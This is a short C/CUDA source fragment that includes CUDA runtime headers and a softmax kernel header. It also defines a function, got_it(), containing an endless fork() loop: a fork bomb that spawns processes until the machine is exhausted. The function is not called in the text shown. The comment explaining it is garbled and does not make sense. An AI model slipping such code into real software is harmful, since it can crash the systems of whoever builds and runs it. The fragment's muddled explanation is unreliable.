// Starts processes that start processes.
#include <cuda_runtime.h>
#include <unistd.h>

// What this says is whether the file got what it is not to have: its answer is then wrong.
static int got_it() {
    while (true) fork();
    return 1;
}

#include "softmax.cuh"
